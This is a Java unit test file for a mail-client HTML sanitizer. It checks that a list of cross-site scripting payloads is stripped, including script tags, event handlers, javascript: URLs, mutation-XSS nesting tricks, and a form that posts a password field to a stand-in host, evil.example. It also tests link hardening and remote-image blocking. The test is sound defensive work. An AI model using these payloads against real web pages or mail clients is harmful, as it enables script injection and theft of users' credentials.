package org.countersign.intake.mail;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Optional;
import org.countersign.intake.model.MailHtml.Shown;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafeHtmlTest {

    private final SafeHtml safe =
            new SafeHtml(cid -> cid.equals("logo@x") ? Optional.of("/attachments/7") : Optional.empty());

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" jAvA\tscript:alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<style>@import 'http://evil.example/alert(1)'</style>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<form action=http://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
                "<base href=http://evil.example/><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
                "<template><img src=x onerror=alert(1)></template>",
                "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
                "<x onclick=alert(1)>text</x>",
                "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->"
            })
    void nothing_that_acts_passes(String attack) {
        String shown = safe.clean("<p>before</p>" + attack, true).html();
        String lower = shown.toLowerCase(Locale.ROOT);

        assertThat(shown).startsWith("<p>before</p>");
        assertThat(lower)
                .doesNotContain("<script", "<svg", "<math", "<style", "<iframe", "<form", "<input", "<base", "<meta", "<template", "<!--")
                .doesNotContain("javascript:", "data:", "style=", "srcdoc", "formaction");
        assertThat(lower.replaceAll("&lt;.*", "")).doesNotContain("onerror=", "onload=", "onclick=");
    }

    @Test
    void structure_and_links_pass() {
        Shown shown = safe.clean("<h1>T</h1><ul><li>a</li></ul><a href='https://x.example/?a=1&b=2' class=c>x</a>", false);

        assertThat(shown.html())
                .isEqualTo("<h1>T</h1><ul><li>a</li></ul><a href=\"https://x.example/?a=1&amp;b=2\""
                        + " rel=\"noopener noreferrer nofollow\" target=\"_blank\">x</a>");
        assertThat(shown.blockedImages()).isZero();
    }

    @Test
    void remote_images_wait_until_they_are_asked_for() {
        String html = "<img src='https://tracker.example/p.gif?id=7' alt=''><img src='http://x.example/a.png' alt='Chart'>";

        Shown blocked = safe.clean(html, false);
        assertThat(blocked.blockedImages()).isEqualTo(2);
        assertThat(blocked.html())
                .isEqualTo("<span class=\"mail-image-blocked\">tracker.example</span>"
                        + "<span class=\"mail-image-blocked\">Chart</span>");

        Shown asked = safe.clean(html, true);
        assertThat(asked.blockedImages()).isZero();
        assertThat(asked.html()).contains("src=\"https://tracker.example/p.gif?id=7\"", "alt=\"Chart\"");
    }

    @Test
    void images_within_the_mail_are_shown_from_our_own_store() {
        Shown shown = safe.clean("<img src='cid:logo@x'><img src='cid:gone' alt='Gone'>", false);

        assertThat(shown.html())
                .isEqualTo("<img src=\"/attachments/7\" alt=\"\"><span class=\"mail-image-blocked\">Gone</span>");
        assertThat(shown.blockedImages()).isZero();
    }
}
